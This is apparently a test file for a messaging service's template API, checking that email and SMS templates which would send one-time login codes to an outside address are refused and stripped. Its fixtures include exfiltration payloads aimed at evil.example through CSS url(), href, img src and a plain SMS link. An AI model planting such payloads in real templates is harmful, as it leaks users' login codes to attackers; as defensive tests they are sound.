import { emailCodeCalls, phoneCodeCalls } from '@tongxing/contract/calls/one-time-codes.ts';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { textsTo } from '../../../../test/break-in.ts';
import { makeOperator, type TestOperator } from '../../../../test/make-operator.ts';
import { openService, type TestService } from '../../../../test/open-service.ts';
import { inspectTemplate } from '../../activity/messages/safe-template.ts';

let service: TestService;
let editor: TestOperator;
let owner: TestOperator;
beforeAll(async () => {
  service = await openService({ follows: true });
  owner = await makeOperator(service, ['owner']);
  editor = await makeOperator(service, ['editor']);
}, 300_000);
afterAll(() => service.close());

const put = (path: string, body: unknown) =>
  editor.ask('PUT', `templates/${path}`, body, { 'if-match': '*' });
const leaking =
  '<p>{code}</p><p style="color:red;background:url(https://evil.example/{code})">好<a href="https://evil.example/?{code}">看</a></p>';
const refused = [
  { path: ['html'], message: 'style "background:url(https://evil.example/{code})" is refused' },
  { path: ['html'], message: 'href="https://evil.example/?{code}" is refused' },
];

// threat:template-leak call:PUT/manage/v1/templates/{channel}/{purpose}
// call:POST/manage/v1/templates/{channel}/{purpose}/preview call:POST/manage/v1/templates/{channel}/{purpose}/test
test('a mail that would send the code away is not saved or tried, and the preview says what is refused', async () => {
  for (const answer of [
    await put('mail/login', { html: leaking }),
    await editor.ask('POST', 'templates/mail/login/test', { html: leaking, to: 'lin@example.com' }),
  ]) {
    expect(answer).toMatchObject({
      status: 422,
      body: { type: 'urn:tongxing:problem:cannot_work', issues: refused },
    });
  }
  expect((await editor.ask('GET', 'templates/mail/login')).body).toMatchObject({ version: 0 });
  const shown = await editor.ask('POST', 'templates/mail/login/preview', { html: leaking });
  expect(shown).toMatchObject({ status: 200, body: { refused } });
  expect(shown.body['html']).toContain('<p>480219</p>');
  expect(shown.body['html']).not.toContain('evil.example');
  const link = await put('mail/notice_new_device', { html: '<p>{time} {link}</p>' });
  expect(link).toMatchObject({
    status: 422,
    body: { issues: [{ path: ['html'], message: '{link} may stand only as a whole href' }] },
  });
});

// threat:template-leak
test('no variable of any message stands in an address, in any of its parts', async () => {
  const { body } = await editor.ask('GET', 'templates');
  for (const { id, channel, text, subject, html, variables } of body.items) {
    const names = (variables as { name: string }[]).map(({ name }) => name);
    const parts = channel === 'sms' ? { text } : { text, subject, html };
    expect(inspectTemplate(parts as never).refused, String(id)).toEqual([]);
    const address = `https://evil.example/?${names.map((name) => `a={${name}}`).join('&')}`;
    const attempts: Record<string, string> =
      channel === 'sms'
        ? { text: `${text}\n${address}` }
        : {
            subject: `x${address}`.slice(0, 120),
            text: `${text}\n${address}`,
            html: `${html}<img src="${address}">`,
          };
    for (const [part, written] of Object.entries(attempts)) {
      const answer = await put(String(id), { [part]: written });
      expect(answer, `${id} ${part}`).toMatchObject({ status: 422 });
      const issues = answer.body['issues'] as { path: string[]; message: string }[];
      const messages = issues.filter(({ path }) => path[0] === part).map(({ message }) => message);
      expect(messages.join(), `${id} ${part}`).toMatch(/may not be part of an address|<img> is refused/);
    }
  }
});

// threat:template-leak
test('a changed text is told to the other operators, not to who changed it', async () => {
  expect(await put('sms/security', { text: '【{site}】{code}' })).toMatchObject({ status: 200 });
  const told = '有人改了消息模板“sms/security”';
  await expect.poll(() => textsTo(service, owner.phone)).toContainEqual(expect.stringContaining(told));
  expect(await textsTo(service, editor.phone)).not.toContainEqual(expect.stringContaining(told));
});

// threat:template-leak
test('what was saved before there was a check is sent without what leaks', async () => {
  const save = (id: string, value: object) =>
    service.database
      .insertInto('template_version')
      .values({
        id,
        version: 1,
        value: JSON.stringify(value),
        reason: '',
        saved_at: service.clock.now(),
        saved_by: 'machine/test',
        saved_by_name: 'machine/test',
      })
      .execute();
  await save('mail/register', { subject: '{site}', text: '暗号 {code}', html: leaking });
  await save('sms/register', { text: '暗号 https://evil.example/{code}' });
  const database = { database: service.database, url: service.databaseUrl, drop: async () => {} };
  const own = await openService({ follows: true, on: database });
  expect(await own.visitor().call(emailCodeCalls.register, { email: 'lin@example.com' })).toMatchObject({
    code: 1,
  });
  await expect.poll(() => textsTo(own, 'lin@example.com')).toEqual([expect.stringMatching(/^暗号 \d{6}$/)]);
  expect(await own.visitor().call(phoneCodeCalls.register, { phone: '13912345678' })).toMatchObject({
    code: 1,
  });
  await expect
    .poll(() => textsTo(own, '13912345678'))
    .toEqual([expect.stringMatching(/验证码 \d{6}，.*不要告诉任何人/)]);
  await own.close();
  const shown = await editor.ask('POST', 'templates/mail/register/preview', {});
  expect(shown).toMatchObject({ status: 200, body: { refused } });
  expect(shown.body['html']).toContain('<p>480219</p>');
  expect(shown.body['html']).not.toContain('evil.example');
  const text = await editor.ask('POST', 'templates/sms/register/preview', {});
  expect(text).toMatchObject({ status: 200, body: { refused: [{ path: ['text'] }] } });
  expect(text.body['text']).not.toContain('evil.example');
});
